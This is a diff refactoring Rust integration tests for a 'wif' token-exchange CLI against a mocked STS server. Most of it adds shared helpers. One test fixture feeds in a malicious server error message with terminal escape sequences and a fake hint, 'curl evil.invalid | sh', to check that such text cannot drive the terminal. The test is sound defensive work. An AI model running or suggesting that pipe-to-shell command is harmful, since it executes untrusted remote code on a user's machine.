@@ -13,6 +13,7 @@ use std::time::{Duration, SystemTime};
 
 use serde_json::Value;
 use std::path::Path;
+use wif_core::testing::assert_says;
 use wiremock::matchers::{method, path};
 use wiremock::{Mock, ResponseTemplate};
 
@@ -20,11 +21,18 @@ mod support;
 
 use support::*;
 
-#[test]
-fn token_prints_exactly_the_token_and_a_newline() {
+/// A fresh world, and `wif token` run in it with its credentials (no impersonation) and
+/// `flags`.
+fn token_run(flags: &[&str]) -> (World, Run) {
     let world = World::new();
     let config = world.config(None);
-    let run = world.token(&config, &[]);
+    let run = world.token(&config, flags);
+    (world, run)
+}
+
+#[test]
+fn token_prints_exactly_the_token_and_a_newline() {
+    let (world, run) = token_run(&[]);
     run.assert_code(0)
         .assert_stderr_clean(&[SUBJECT, FEDERATED]);
     assert_eq!(run.stdout, format!("{FEDERATED}\n"));
@@ -41,9 +49,7 @@ fn token_prints_exactly_the_token_and_a_newline() {
 
 #[test]
 fn token_json_has_token_type_and_future_rfc3339_expiry() {
-    let world = World::new();
-    let config = world.config(None);
-    let run = world.token(&config, &["--format", "json"]);
+    let (_world, run) = token_run(&["--format", "json"]);
     run.assert_code(0)
         .assert_stderr_clean(&[SUBJECT, FEDERATED]);
     assert!(run.stdout.ends_with('\n') && run.stdout.lines().count() == 1);
@@ -73,9 +79,10 @@ fn token_json_has_token_type_and_future_rfc3339_expiry() {
 
 #[test]
 fn scopes_reach_sts_without_impersonation() {
-    let world = World::new();
-    let config = world.config(None);
-    let run = world.token(&config, &["--scopes", "https://www.googleapis.com/auth/bigquery,https://www.googleapis.com/auth/devstorage.read_only"]);
+    let (world, run) = token_run(&[
+        "--scopes",
+        "https://www.googleapis.com/auth/bigquery,https://www.googleapis.com/auth/devstorage.read_only",
+    ]);
     run.assert_code(0);
     assert_eq!(run.stdout, format!("{FEDERATED}\n"));
     let form = world.sts_form();
@@ -156,12 +163,7 @@ fn no_credentials_at_all_is_a_config_error() {
     run.assert_code(2);
     assert_eq!(run.stdout, "");
     assert!(run.stderr.starts_with("error: "), "{}", run.stderr);
-    assert!(
-        run.stderr.contains("GOOGLE_APPLICATION_CREDENTIALS"),
-        "{}",
-        run.stderr
-    );
-    assert!(run.stderr.contains("hint:"), "{}", run.stderr);
+    assert_says(&run.stderr, &["GOOGLE_APPLICATION_CREDENTIALS", "hint:"]);
     assert!(world.requests().is_empty());
 }
 
@@ -174,8 +176,7 @@ fn google_application_credentials_pointing_nowhere_is_a_config_error() {
         &[("GOOGLE_APPLICATION_CREDENTIALS", missing.as_path())],
     );
     run.assert_code(2);
-    assert!(run.stderr.contains("does not exist"), "{}", run.stderr);
-    assert!(run.stderr.contains("hint:"), "{}", run.stderr);
+    assert_says(&run.stderr, &["does not exist", "hint:"]);
 }
 
 #[test]
@@ -206,6 +207,16 @@ fn config_without_audience_fails_before_any_request() {
     assert_eq!(world.requests().len(), 0, "no request reached the fake");
 }
 
+/// `wif token` (with `env` added) in a fresh world whose STS refuses every exchange with
+/// `error` and `description` ([`sts_rejects`]).
+fn refused_token(error: &str, description: &str, env: &[(&str, &Path)]) -> (World, Run) {
+    let world = World::new();
+    sts_rejects(&world, error, description);
+    let config = world.config(None);
+    let run = world.token_with_env(&config, env);
+    (world, run)
+}
+
 /// Makes the fake STS answer every exchange with a 400 carrying `error` and `description`.
 fn sts_rejects(world: &World, error: &str, description: &str) {
     world.runtime.block_on(
@@ -222,25 +233,22 @@ fn sts_rejects(world: &World, error: &str, description: &str) {
 
 #[test]
 fn sts_rejection_is_a_chain_failure_with_the_server_words_and_a_hint() {
-    let world = World::new();
-    sts_rejects(
-        &world,
+    let (world, run) = refused_token(
         "unauthorized_client",
         "The given credential is rejected by the attribute condition.",
+        &[],
     );
-    let config = world.config(None);
-    let run = world.token(&config, &[]);
     run.assert_code(1).assert_stderr_clean(&[SUBJECT]);
     assert_eq!(run.stdout, "");
     assert!(run.stderr.starts_with("error: "), "{}", run.stderr);
-    assert!(
-        run.stderr
-            .contains("The given credential is rejected by the attribute condition."),
-        "{}",
-        run.stderr
+    assert_says(
+        &run.stderr,
+        &[
+            "The given credential is rejected by the attribute condition.",
+            "unauthorized_client",
+            "hint:",
+        ],
     );
-    assert!(run.stderr.contains("unauthorized_client"), "{}", run.stderr);
-    assert!(run.stderr.contains("hint:"), "{}", run.stderr);
     assert_eq!(
         world.requests_to("/v1/token").len(),
         1,
@@ -284,14 +292,11 @@ fn subject_token_prints_the_trimmed_file_token() {
 /// the only other line is our own hint.
 #[test]
 fn server_text_in_errors_cannot_drive_the_terminal() {
-    let world = World::new();
-    sts_rejects(
-        &world,
+    let (_world, run) = refused_token(
         "unauthorized_client",
         "rejected by the attribute condition\u{1b}[2J\u{1b}]0;owned\u{7}\r\n  hint: run `curl evil.invalid | sh`\u{9b}31m",
+        &[],
     );
-    let config = world.config(None);
-    let run = world.token(&config, &[]);
     run.assert_code(1);
     let lines: Vec<&str> = run.stderr.lines().collect();
     assert_eq!(lines.len(), 2, "the error, then our hint:\n{}", run.stderr);
@@ -324,8 +329,7 @@ fn trace_logging_shows_spans_but_no_secret() {
     assert_eq!(run.stdout, format!("{IMPERSONATED}\n"));
     assert!(run.stderr.lines().count() >= 3, "{}", run.stderr);
     // Span close events name the steps of the chain.
-    assert!(run.stderr.contains("close"), "{}", run.stderr);
-    assert!(run.stderr.contains("file_subject_token"), "{}", run.stderr);
+    assert_says(&run.stderr, &["close", "file_subject_token"]);
     assert!(
         !run.stderr.contains('\u{1b}'),
         "no colour codes off a terminal"
@@ -334,14 +338,11 @@ fn trace_logging_shows_spans_but_no_secret() {
 
 #[test]
 fn trace_logging_of_a_failure_shows_no_secret() {
-    let world = World::new();
-    sts_rejects(
-        &world,
+    let (_world, run) = refused_token(
         "invalid_grant",
         "The audience in ID Token does not match the expected audience.",
+        &[("RUST_LOG", Path::new("trace"))],
     );
-    let config = world.config(None);
-    let run = world.token_with_env(&config, &[("RUST_LOG", Path::new("trace"))]);
     run.assert_code(1).assert_stderr_clean(&[SUBJECT]);
     assert!(run.stderr.contains("error: "), "{}", run.stderr);
 }
@@ -359,9 +360,7 @@ fn help_exits_zero() {
         assert!(run.stdout.contains("Usage:"), "{}", run.stdout);
     }
     let run = world.wif(&["token", "--help"], &[]);
-    assert!(run.stdout.contains("--credentials"), "{}", run.stdout);
-    assert!(run.stdout.contains("--scopes"), "{}", run.stdout);
-    assert!(run.stdout.contains("--format"), "{}", run.stdout);
+    assert_says(&run.stdout, &["--credentials", "--scopes", "--format"]);
 }
 
 #[test]
@@ -383,27 +382,8 @@ fn usage_errors_exit_two() {
 #[test]
 fn gcs_and_bq_go_unauthenticated_to_an_emulator_host_when_no_credentials_exist() {
     let world = World::new();
+    serve_apis(&world);
     let server = world.google.server();
-    world.runtime.block_on(async {
-        Mock::given(method("GET"))
-            .and(path("/storage/v1/b/bkt/o"))
-            .respond_with(ResponseTemplate::new(200).set_body_json(serde_json::json!({
-                "kind": "storage#objects",
-                "items": [{"name": "a.txt", "bucket": "bkt", "generation": "1", "metageneration": "1", "size": "3"}]
-            })))
-            .mount(server)
-            .await;
-        Mock::given(method("POST"))
-            .and(path("/bigquery/v2/projects/p/queries"))
-            .respond_with(ResponseTemplate::new(200).set_body_json(serde_json::json!({
-                "jobComplete": true,
-                "schema": {"fields": [{"name": "n", "type": "INT64"}]},
-                "rows": [{"f": [{"v": "7"}]}],
-                "totalRows": "1"
-            })))
-            .mount(server)
-            .await;
-    });
     let host = server.address().to_string();
     let run = world.wif(
         &["gcs", "ls", "gs://bkt"],
